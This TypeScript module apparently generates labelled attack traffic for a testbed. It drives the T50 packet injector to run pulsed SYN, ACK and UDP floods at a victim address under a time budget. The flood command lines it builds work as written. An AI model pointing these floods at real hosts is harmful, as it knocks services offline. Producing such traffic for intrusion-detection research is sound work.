// SYN, ACK and UDP floods with T50 (Debian's t50 packet injector), a second flood tool beside
// hping3. T50 has no rate control: it sends its --threshold of packets as fast as it can (well
// over 100k/s here), so the flood is pulsed, a burst of a few hundred packets then a gap, which
// averages a few thousand packets a second. Always with -s (T50 spoofs a random source by
// default): the host's own address labels the flows. Source ports are random per packet.
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { Budget, firstErrorLine, runTool } from "./bounded.ts";
import { chance, intBetween, pick, pickWeighted, type Rng } from "./random.ts";

interface T50Mode {
  id: string;
  label: string;
  description: string;
  args: (rng: Rng, ctx: ScenarioContext) => string[];
}

function tcpPort(rng: Rng, ctx: ScenarioContext): string {
  return String(pickWeighted(rng, [[ctx.services.web.port, 6], [ctx.services.ssh.port, 1], [ctx.services.ftp.port, 1]] as const));
}

function window(rng: Rng): string[] {
  return chance(rng, 0.5) ? ["--window", String(pick(rng, [1_024, 5_840, 8_192, 29_200, 64_240, 65_535]))] : [];
}

const MODES: T50Mode[] = [
  {
    id: "t50-syn-flood",
    label: "DoS-SYNFlood",
    description: "T50 pulsed SYN flood (bursts at line rate, random source ports)",
    args: (rng, ctx) => ["--protocol", "TCP", "--syn", "--dport", tcpPort(rng, ctx), ...window(rng), ...(chance(rng, 0.3) ? ["--mss", String(pick(rng, [536, 1_360, 1_460]))] : [])],
  },
  {
    id: "t50-ack-flood",
    label: "DoS-ACKFlood",
    description: "T50 pulsed ACK flood (bursts at line rate, random source ports)",
    args: (rng, ctx) => ["--protocol", "TCP", "--ack", ...(chance(rng, 0.3) ? ["--psh"] : []), "--dport", tcpPort(rng, ctx), ...window(rng)],
  },
  {
    id: "t50-udp-flood",
    label: "DoS-UDPFlood",
    description: "T50 pulsed UDP flood to DNS, NTP or a closed port",
    args: (rng) => ["--protocol", "UDP", "--dport", String(pick(rng, [53, 123, 161, 1_900, intBetween(rng, 1_024, 65_535)]))],
  },
];

async function runT50(mode: T50Mode, ctx: ScenarioContext): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const waves = intBetween(rng, 1, 3);
  let sent = 0;
  const described: string[] = [];
  const problems: string[] = [];
  for (let w = 0; w < waves && budget.allows(1_500); w++) {
    const pps = intBetween(rng, 500, 4_000);
    const gapMs = intBetween(rng, 50, 400);
    const burst = Math.max(10, Math.round((pps * gapMs) / 1_000));
    const seconds = Math.min(budget.remainingMs() / 1_000, intBetween(rng, 3, 10));
    const bursts = Math.max(1, Math.floor((seconds * 1_000) / gapMs));
    const ttl = pickWeighted(rng, [[255, 2], [64, 3], [128, 1]] as const);
    const t50 = ["t50", ctx.victimIp, "-s", ctx.srcIp, "--ttl", String(ttl), ...mode.args(rng, ctx), "--threshold", String(burst)];
    // One line per burst sent, so a run killed at the budget still counts what it sent.
    const script = `for ((i = 0; i < ${bursts}; i++)); do ${t50.join(" ")} >/dev/null || exit 1; echo sent; sleep ${(gapMs / 1_000).toFixed(3)}; done`;
    ctx.log(`${t50.join(" ")} x${bursts} every ${gapMs} ms`);
    const run = await runTool(ctx, budget, ["bash", "-c", script], { maxMs: seconds * 2_000 + 3_000 });
    const done = (run.stdout.match(/^sent$/gm) ?? []).length;
    sent += done * burst;
    described.push(`${done}x${burst} pkts every ${gapMs} ms ttl ${ttl}`);
    if (!run.killed && run.code !== 0) problems.push(firstErrorLine(run));
    await budget.pause(intBetween(rng, 300, 2_000));
  }
  const notes = [`${described.length} waves (${described.join("; ")})`];
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: sent, note: notes.join(", ") };
}

export const T50_FLOOD_SCENARIOS: Scenario[] = MODES.map((mode) => ({
  id: mode.id,
  label: mode.label,
  tool: "t50",
  ipv6: { unsupported: "T50 5.8 sends IPv4 only (its manual: \"ONLY IPv4 addresses are allowed. T50 don't provide IPv6 support yet\")" },
  description: mode.description,
  run: (ctx) => runT50(mode, ctx),
}));
